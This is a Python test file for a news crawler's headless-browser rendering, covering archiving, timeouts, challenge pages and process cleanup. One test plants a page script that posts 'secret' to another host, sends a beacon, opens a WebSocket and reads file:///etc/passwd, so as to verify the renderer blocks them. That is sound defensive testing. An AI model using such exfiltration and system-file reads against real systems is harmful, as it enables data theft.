"""Pages that only scripts fill, drawn by a real Chromium. Skipped where there is none."""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import time
from typing import Any

import psutil
import pytest

from crawler.archive import read_rendered, read_response
from crawler.clean import clean_batch
from crawler.config import load_settings
from crawler.crawl.browser import find_browser
from crawler.errors import ConfigError
from crawler.progress import no_progress
from crawler.records import Article, Rejection
from crawler.runs import ARTICLES_FILE, REJECTIONS_FILE, read_records
from tests.crawl.test_walls import wall

SHELL = """<!doctype html><html lang="en"><head><title>Khabar Qasr</title><script defer src="/app.js"></script>
<link rel="stylesheet" href="/app.css"></head>
<body><noscript>You need to enable JavaScript to run this app.</noscript><div id="root"></div>
<img src="/tracker.png"></body></html>"""
APP = """
const story = location.pathname.split('/').pop();
const draw = (html) => { document.getElementById('root').innerHTML = html; };
if (story === 'latest') {
  draw('<main><a href="/story/1">Bridge reopens</a> <a href="/story/2">Wheat harvest</a></main>');
} else {
  fetch('/api/' + story, {method: 'POST', body: '{"want": "story"}'}).then((answer) => answer.json()).then((it) => {
    document.title = it.title;
    draw('<article><h1>' + it.title + '</h1><p class="byline">By Rima Haddad</p>'
      + it.paragraphs.map((text) => '<p>' + text + '</p>').join('') + '</article>');
  });
}
"""
STORY = """{"title": "Bridge over the Sarat reopens after %s days", "paragraphs": [
"The bridge over the Sarat reopened on Sunday, %s days after shelling closed it, the town council of Qasr said.",
"Lorries with flour and fuel crossed from early morning, and a queue of more than forty stood at the bank by noon.",
"Engineers warned that the middle span can carry one lorry at a time until the steel for its repair arrives."]}"""


@pytest.fixture(autouse=True)
def _needs_a_browser() -> None:
    try:
        find_browser(load_settings().browser)
    except ConfigError as error:
        pytest.skip(f"no browser to draw pages with: {error}")


@pytest.fixture
def app(site: Any, answer: Any) -> Any:
    site.pages["/app.js"] = answer(APP, headers={"Content-Type": "text/javascript"})
    for number in ("1", "2"):
        site.pages[f"/story/{number}"] = SHELL
        site.pages[f"/api/{number}"] = answer(STORY % (number, number), headers={"Content-Type": "application/json"})
    return site


def test_pages_are_drawn_archived_beside_the_response_and_cleaned(app: Any, make_batch: Any, source_of: Any) -> None:
    app.feed("/story/1", "/story/2")
    batch = make_batch(source_of(app, render="browser"))
    report = batch.crawl()
    assert report.problem is None
    clean_batch(batch.settings, batch.folder, no_progress)
    articles = {a.capture.url: a.fields for a in read_records(batch.folder / ARTICLES_FILE, Article)}
    assert len(articles) == 2
    assert articles[f"{app.url}/story/2"].title == "Bridge over the Sarat reopens after 2 days"
    assert "more than forty stood" in articles[f"{app.url}/story/1"].text
    for capture in batch.captures:
        assert read_response(batch.settings.archive_url, capture).body == SHELL.encode()
        assert b"Engineers warned" in read_rendered(batch.settings.archive_url, capture, 100_000)
    # The script is fetched once for both pages; images and styles not at all; the page itself only by the crawl.
    assert [len(app.asked_for(path)) for path in ("/app.js", "/app.css", "/tracker.png", "/story/1")] == [1, 0, 0, 1]
    assert "ops@example.org" in app.asked_for("/api/1")[0].headers["user-agent"]


def test_pages_that_are_drawn_at_the_same_time_share_a_script(
    app: Any, make_batch: Any, source_of: Any, answer: Any
) -> None:
    app.pages["/app.js"] = answer(APP, headers={"Content-Type": "text/javascript"}, wait=3)
    app.feed("/story/1", "/story/2")
    batch = make_batch(source_of(app, render="browser"))
    batch.crawl()
    assert len([capture for capture in batch.captures if capture.rendered_bytes]) == 2
    assert len(app.asked_for("/app.js")) == 1


def test_without_a_browser_the_shell_is_no_article(app: Any, make_batch: Any, source_of: Any) -> None:
    app.feed("/story/1")
    batch = make_batch(source_of(app))
    batch.crawl()
    clean_batch(batch.settings, batch.folder, no_progress)
    assert list(read_records(batch.folder / ARTICLES_FILE, Article)) == []
    assert len(list(read_records(batch.folder / REJECTIONS_FILE, Rejection))) == 1


def test_section_pages_are_drawn_too(app: Any, make_batch: Any, source_of: Any) -> None:
    app.pages["/latest"] = SHELL
    batch = make_batch(source_of(app, render="browser", section_pages=[f"{app.url}/latest"]))
    batch.crawl()
    assert {capture.url for capture in batch.captures} == {f"{app.url}/story/1", f"{app.url}/story/2"}


def test_a_page_that_never_ends_fails_and_others_are_drawn(app: Any, make_batch: Any, source_of: Any) -> None:
    app.pages["/story/endless"] = "<html><body><script>for (;;) {}</script></body></html>"
    app.feed("/story/endless", at="/endless.xml")
    app.feed("/story/1")
    batch = make_batch(
        source_of(app, id="endless", render="browser", feeds=[f"{app.url}/endless.xml"], limits={"max_seconds": 8}),
        source_of(app, render="browser"),
    )
    batch.crawl()
    assert batch.ends() == {"story/endless": "failed:rendering"}
    assert [capture.url for capture in batch.captures] == [f"{app.url}/story/1"]
    [failed] = batch.fetches
    assert failed.capture is not None
    assert b"for (;;)" in read_response(batch.settings.archive_url, failed.capture).body


def test_no_browser_leaves_pages_pending_and_other_sources_alone(app: Any, make_batch: Any, source_of: Any) -> None:
    app.feed("/plain", at="/plain.xml")
    app.pages["/plain"] = "<h1>Plain</h1>"
    app.feed("/story/1")
    batch = make_batch(
        source_of(app, render="browser"),
        source_of(app, id="plain", feeds=[f"{app.url}/plain.xml"]),
        environment={"DATELINE_BROWSER": "/no/such/browser"},
    )
    report = batch.crawl()
    assert report.problem is None
    assert batch.ends() == {"story/1": "pending:no_browser"}
    assert [capture.url for capture in batch.captures] == [f"{app.url}/plain"]
    assert "DATELINE_BROWSER" in (batch.fetches[0].detail or "")
    assert not app.asked_for("/story/1")


def test_a_page_gets_scripts_of_other_hosts_and_sends_nothing_to_them(
    app: Any, other_site: Any, make_batch: Any, source_of: Any, answer: Any
) -> None:
    other_site.pages["/lib.js"] = answer("document.body.append('library')", headers={"Content-Type": "text/javascript"})
    app.pages["/story/post"] = (
        f"<html><body><h1>Post</h1><script src='{other_site.url}/lib.js'></script><script>"
        f"fetch('{other_site.url}/taken', {{method: 'POST', body: 'secret'}})"
        ".catch(() => fetch('file:///etc/passwd')).catch(() => { document.body.append('refused'); });"
        f"new WebSocket('ws://{other_site.host}/socket'); navigator.sendBeacon('{other_site.url}/beacon', 'secret');"
        "</script></body></html>"
    )
    app.feed("/story/post")
    other_site.feed()
    # Private addresses are those of the batch's own sources only.
    batch = make_batch(source_of(app, render="browser"), source_of(other_site, id="other"))
    batch.crawl()
    [capture] = batch.captures
    page = read_rendered(batch.settings.archive_url, capture, 100_000)
    assert b"library" in page
    assert b"refused" in page
    assert set(other_site.paths()) == {"/lib.js", "/robots.txt", "/feed.xml"}


def test_a_killed_crawl_leaves_no_browser(app: Any, make_batch: Any, source_of: Any, answer: Any) -> None:
    app.pages["/api/1"] = answer("{}", wait=30)
    app.feed("/story/1")
    batch = make_batch(source_of(app, render="browser"))
    code = (
        "import sys; from pathlib import Path; from crawler.config import load_settings;"
        "from crawler.crawl import crawl_batch; from crawler.progress import no_progress;"
        "crawl_batch(load_settings(), Path(sys.argv[1]), no_progress, use_database=False)"
    )
    environment = {**os.environ, "DATELINE_HOME": str(batch.settings.home), "DATELINE_CONTACT": "ops@example.org"}
    stage = subprocess.Popen([sys.executable, "-c", code, str(batch.folder)], env=environment)
    try:
        _wait_for(lambda: app.asked_for("/api/1"))
        family = psutil.Process(stage.pid).children(recursive=True)
        assert any("chrom" in process.name() for process in family)
    finally:
        os.kill(stage.pid, signal.SIGKILL)
        stage.wait()
    _wait_for(lambda: not any(process.is_running() and process.status() != "zombie" for process in family))


def _wait_for(condition: Any) -> None:
    deadline = time.monotonic() + 60
    while not condition():
        assert time.monotonic() < deadline, "it did not come about"
        time.sleep(0.1)


def test_the_scripts_of_a_challenge_are_not_run(app: Any, make_batch: Any, source_of: Any, answer: Any) -> None:
    challenge = wall(answer, "anubis-200")
    challenge.body = challenge.body.replace(b"</head>", b'<script src="/app.js"></script></head>')
    app.pages["/story/1"] = challenge
    app.feed("/story/1")
    batch = make_batch(source_of(app, render="browser"))
    batch.crawl()
    assert not app.asked_for("/app.js")
    clean_batch(batch.settings, batch.folder, no_progress)
    [rejected] = read_records(batch.folder / REJECTIONS_FILE, Rejection)
    assert rejected.reason == "challenge"


def test_no_page_is_drawn_after_its_sources_time(app: Any, make_batch: Any, source_of: Any) -> None:
    names = [f"/endless/{number}" for number in range(6)]
    app.pages.update(dict.fromkeys(names, "<html><body><script>for (;;) {}</script></body></html>"))
    app.feed(*names)
    batch = make_batch(source_of(app, render="browser", limits={"max_seconds": 8}))
    batch.crawl()
    ends = sorted(batch.ends().values())
    assert ends == ["failed:rendering"] * 2 + ["pending:time_limit"] * 4
